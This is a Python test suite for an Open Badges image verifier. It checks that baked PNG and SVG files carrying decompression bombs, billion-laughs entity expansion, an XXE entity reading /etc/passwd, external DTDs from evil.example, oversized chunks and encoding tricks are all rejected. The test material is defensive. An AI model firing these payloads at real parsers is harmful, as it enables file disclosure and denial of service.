"""Files: what carries a badge may not hide a second one, go off, or be something else.

Each picture carries a badge that is valid by itself, so that a wrong yes would be heard.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable

import pytest

from exchange.core.bake import bake_png, bake_svg
from tests.core.bake.pictures import SVG, chunk, itxt, png, with_chunks
from tests.hostile.doors import through_flow
from tests.hostile.forge import ATLAS, CLEAR, badge, bare, dumped, page, problems, signed

GOOD = dumped(signed(badge()))
OTHER = dumped(signed(bare()))
TOKEN = ATLAS.sign(bare(), "jwt")
OB = "https://purl.imsglobal.org/ob/v3p0"


def _ztxt(data: bytes, keyword: bytes = b"openbadgecredential") -> bytes:
    return chunk(b"zTXt", keyword + b"\0\0" + data)


def _compressed(data: bytes) -> bytes:
    return itxt(zlib.compress(data, 9), flags=b"\1\0")


def _bomb(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return packer.compress(b" " * size) + packer.flush()


def _broken_crc(data: bytes) -> bytes:
    return data[:-1] + bytes([data[-1] ^ 1])


def svg(body: str, root: str = "", before: str = "") -> bytes:
    opening = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB}"{root}>'
    return f"{before}{opening}{body}</svg>".encode()


def element(data: bytes = GOOD) -> str:
    return f"<openbadges:credential><![CDATA[{data.decode()}]]></openbadges:credential>"


def _entities(count: int) -> str:
    """Billions of laughs: each entity is ten of the one before."""
    lines = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, count)]
    return f'<!DOCTYPE svg [<!ENTITY a0 "ha">{"".join(lines)}]>'


PNGS: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing behind the signature": (lambda: b"\x89PNG\r\n\x1a\n", "image_malformed"),
    "cut off in the badge": (lambda: bake_png(png(), GOOD.decode())[:200], "image_malformed"),
    "without a badge": (png, "no_badge_in_image"),
    "with two badges": (lambda: with_chunks(itxt(GOOD), itxt(OTHER)), "badge_chunk_duplicate"),
    "with the same badge twice": (lambda: with_chunks(itxt(GOOD), itxt(GOOD)), "badge_chunk_duplicate"),
    "with a badge behind its end": (lambda: png() + itxt(GOOD), "no_badge_in_image"),
    "with a wrong checksum": (lambda: with_chunks(_broken_crc(itxt(GOOD))), "badge_chunk_damaged"),
    "with a chunk that says it is 4 GB": (
        lambda: png()[:33] + b"\xff\xff\xff\xffiTXtopenbadgecredential\0\0\0\0\0" + GOOD,
        "image_malformed",
    ),
    "with a chunk of 2^31 - 1": (lambda: png()[:33] + b"\x7f\xff\xff\xffiTXt" + GOOD, "image_malformed"),
    "with a hundred thousand chunks": (
        lambda: with_chunks(*[chunk(b"tEXt", b"")] * 100_000),
        "image_malformed",
    ),
    "with the badge in a tEXt chunk": (
        lambda: with_chunks(chunk(b"tEXt", b"openbadgecredential\0" + GOOD)),
        "badge_chunk_unsupported",
    ),
    "with the badge in a zTXt chunk": (
        lambda: with_chunks(_ztxt(zlib.compress(GOOD))),
        "badge_chunk_unsupported",
    ),
    "with a bomb in a zTXt chunk": (
        lambda: with_chunks(_ztxt(_bomb(100_000_000))),
        "badge_chunk_unsupported",
    ),
    "with a bomb in the badge": (
        lambda: with_chunks(itxt(_bomb(100_000_000), flags=b"\1\0")),
        "credential_too_large",
    ),
    "with a compressed badge that breaks off": (
        lambda: with_chunks(itxt(zlib.compress(GOOD)[:-20], flags=b"\1\0")),
        "badge_chunk_damaged",
    ),
    "with a compressed badge that is none": (
        lambda: with_chunks(itxt(b"x\x9cnonsense", flags=b"\1\0")),
        "badge_chunk_damaged",
    ),
    "with a method of compression nobody knows": (
        lambda: with_chunks(itxt(zlib.compress(GOOD), flags=b"\1\7")),
        "badge_chunk_damaged",
    ),
    "with a badge in Latin-1": (
        lambda: with_chunks(itxt(b'{"name":"K\xe4se"}')),
        "badge_chunk_damaged",
    ),
    "with a badge that is HTML": (lambda: with_chunks(itxt(b"<html></html>")), "badge_chunk_damaged"),
    "with a badge that is empty": (lambda: with_chunks(itxt(b"")), "badge_chunk_damaged"),
    "with a NUL behind the badge": (lambda: with_chunks(itxt(GOOD + b"\0")), "json_malformed"),
    "with a second document behind the badge": (lambda: with_chunks(itxt(GOOD + OTHER)), "json_malformed"),
    "with a keyword in capitals": (
        lambda: with_chunks(itxt(GOOD, keyword=b"OpenBadgeCredential")),
        "no_badge_in_image",
    ),
    "with a keyword of eighty bytes": (
        lambda: with_chunks(itxt(GOOD, keyword=b"openbadgecredential".ljust(80))),
        "no_badge_in_image",
    ),
    "of eleven megabytes": (lambda: with_chunks(chunk(b"prVt", bytes(11_000_000))), "image_too_large"),
    "that is JPEG": (lambda: b"\xff\xd8\xff\xe0" + GOOD, "unknown_file"),
}


SVGS: dict[str, tuple[Callable[[], bytes], str]] = {
    "without a badge": (SVG.encode, "no_badge_in_image"),
    "cut off": (lambda: bake_svg(SVG, GOOD.decode())[:-200], "image_malformed"),
    "with two badges": (lambda: svg(element() + element(OTHER)), "badge_element_duplicate"),
    "with a badge in a badge": (
        lambda: svg(f"<openbadges:credential>{element()}</openbadges:credential>"),
        "badge_element_damaged",
    ),
    "with an element in the badge": (
        lambda: svg("<openbadges:credential><g/></openbadges:credential>"),
        "badge_element_damaged",
    ),
    "with a badge in another namespace": (
        lambda: svg(element()).replace(OB.encode(), b"https://evil.example/ob"),
        "no_badge_in_image",
    ),
    "with laughs by the billion": (lambda: svg("&a9;" + element(), before=_entities(10)), "svg_forbidden"),
    "with one large entity, often": (
        lambda: svg("&x;" * 1000 + element(), before=f'<!DOCTYPE svg [<!ENTITY x "{"x" * 100_000}">]>'),
        "svg_forbidden",
    ),
    "with an entity that reads a file": (
        lambda: svg(
            "<openbadges:credential>&x;</openbadges:credential>",
            before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        "svg_forbidden",
    ),
    "with a parameter entity": (
        lambda: svg(element(), before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/"> %x;]>'),
        "svg_forbidden",
    ),
    "with a DTD from elsewhere": (
        lambda: svg(element(), before='<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'),
        "svg_forbidden",
    ),
    "with an entity nobody declared": (lambda: svg("&nbsp;" + element()), "image_malformed"),
    "in UTF-16": (lambda: svg(element()).decode().encode("utf-16"), "svg_forbidden"),
    "in UTF-7": (lambda: b"+ADw-svg+AD4-", "svg_forbidden"),
    "that says it is UTF-7": (
        lambda: svg(element(), before='<?xml version="1.0" encoding="utf-7"?>'),
        "svg_forbidden",
    ),
    "in an encoding of Python's": (
        lambda: svg(element(), before='<?xml version="1.0" encoding="rot13"?>'),
        "svg_forbidden",
    ),
    "three hundred deep": (lambda: svg("<g>" * 300 + "</g>" * 300 + element()), "svg_too_complex"),
    "a hundred thousand deep": (lambda: svg("<g>" * 100_000), "svg_too_complex"),
    "with a million elements": (lambda: svg("<g/>" * 1_000_000 + element()), "svg_too_complex"),
    "with a tag of 700,000 attributes": (
        lambda: svg(element(), root="".join(f' a{n}=""' for n in range(700_000))),
        "svg_too_complex",
    ),
    "with a hundred thousand namespaces": (
        lambda: svg(element(), root="".join(f' xmlns:a{n}="urn:a"' for n in range(100_000))),
        "svg_too_complex",
    ),
    "with a badge of two megabytes": (
        lambda: svg(element(b'{"a":"' + b"x" * 2_000_000 + b'"}')),
        "credential_too_large",
    ),
    "of eleven megabytes": (lambda: svg(f"<!--{'x' * 11_000_000}-->" + element()), "image_too_large"),
    "that is HTML": (lambda: b"<html><body>" + element().encode() + b"</body></html>", "unknown_file"),
    "that is a web page with a picture": (
        lambda: b"<html>" + svg(element()) + b"</html>",
        "unknown_file",
    ),
    "with bytes that are no UTF-8": (
        lambda: svg(element()).replace(b"Incident", b"\xe9ncident"),
        "image_malformed",
    ),
}


FILES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "unknown_file"),
    "spaces": (b" \r\n\t", "unknown_file"),
    "a megabyte of spaces": (b" " * 1_000_000, "unknown_file"),
    "a PDF with a badge in it": (b"%PDF-1.7\n" + GOOD, "unknown_file"),
    "a ZIP archive": (b"PK\x03\x04" + GOOD, "unknown_file"),
    "a gzip file": (b"\x1f\x8b\x08" + GOOD, "unknown_file"),
    "a GIF": (b"GIF89a" + GOOD, "unknown_file"),
    "a WebP": (b"RIFF\0\0\0\0WEBP" + GOOD, "unknown_file"),
    "a text before the badge": (b"see: " + GOOD, "unknown_file"),
    "a text behind the badge": (GOOD + b" see above", "json_malformed"),
    "a picture behind the badge": (GOOD + png(), "json_not_utf8"),
    "a badge in quotes": (b'"' + GOOD.replace(b'"', b'\\"') + b'"', "unknown_file"),
    "a list of badges": (b"[" + GOOD + b"]", "unknown_file"),
    "a badge in UTF-16": (GOOD.decode().encode("utf-16"), "unknown_file"),
    "a badge after a byte order mark": (b"\xef\xbb\xbf" + GOOD, "json_malformed"),
    "eleven megabytes of JSON": (b'{"a":"' + b"x" * 11_000_000 + b'"}', "credential_too_large"),
    "eleven megabytes of a token": (b"e30." + b"A" * 11_000_000 + b".x", "credential_too_large"),
    "random bytes": (bytes(range(256)) * 100, "unknown_file"),
    "a token with a line break": (TOKEN[:50] + b"\n" + TOKEN[50:], "unknown_file"),
    "two tokens": (TOKEN + b"\n" + TOKEN, "unknown_file"),
}


def _refused(data: bytes, code: str) -> None:
    verdict, world = through_flow(data, CLEAR)
    assert verdict.outcome != "valid"
    assert verdict.credential is None
    assert code in problems(verdict), verdict.findings
    assert world.web.asked == []


@pytest.mark.parametrize("name", PNGS)
def test_a_png(name: str) -> None:
    make, code = PNGS[name]
    _refused(make(), code)


@pytest.mark.parametrize("name", SVGS)
def test_an_svg(name: str) -> None:
    make, code = SVGS[name]
    _refused(make(), code)


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is(name: str) -> None:
    _refused(*FILES[name])


GOOD_FILES: dict[str, Callable[[], bytes]] = {
    "a baked PNG": lambda: bake_png(png(), GOOD.decode()),
    "a baked SVG": lambda: bake_svg(SVG, GOOD.decode()),
    "a PNG with a token": lambda: bake_png(png(), TOKEN.decode()),
    "a PNG whose badge is compressed": lambda: with_chunks(_compressed(GOOD)),
    "a PNG with a wrong checksum elsewhere": lambda: with_chunks(
        itxt(GOOD), _broken_crc(chunk(b"tEXt", b"a\0b"))
    ),
    "a PNG cut off behind the badge": lambda: bake_png(png(), GOOD.decode())[:-30],
    "a PNG with bytes behind its end": lambda: bake_png(png(), GOOD.decode()) + b"<?php ?>",
    "a PNG with a badge of an older standard, too": lambda: with_chunks(
        itxt(b'{"@context":"https://w3id.org/openbadges/v2"}', keyword=b"openbadges"), itxt(GOOD)
    ),
    "an SVG with the badge at its end": lambda: svg("<g/>" + element()),
    "an SVG with a public DOCTYPE": lambda: svg(
        element(),
        before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ),
    "an SVG after a byte order mark": lambda: b"\xef\xbb\xbf" + svg(element()),
    "JSON in white space": lambda: b"\r\n  " + GOOD + b"\n\n",
    "a token in white space": lambda: b" " + TOKEN + b"\r\n",
}


@pytest.mark.parametrize("name", GOOD_FILES)
def test_strange_but_good(name: str) -> None:
    verdict, world = through_flow(GOOD_FILES[name](), CLEAR)
    assert verdict.outcome == "valid", verdict.findings
    assert set(world.web.asked) <= set(CLEAR)


def test_a_picture_that_only_names_an_address_is_followed_once() -> None:
    """What lies there may be a badge; another picture that points on is not followed."""
    first, second = ("https://a.example/badge.svg", "https://b.example/badge.svg")
    pages = {
        **page(first, svg(f'<openbadges:credential verify="{second}"/>'), "image/svg+xml"),
        **page(second, GOOD),
    }
    verdict, made = through_flow(svg(f'<openbadges:credential verify="{first}"/>'), {**pages, **CLEAR})
    assert problems(verdict) == {"badge_elsewhere"}
    assert made.web.asked == [first]
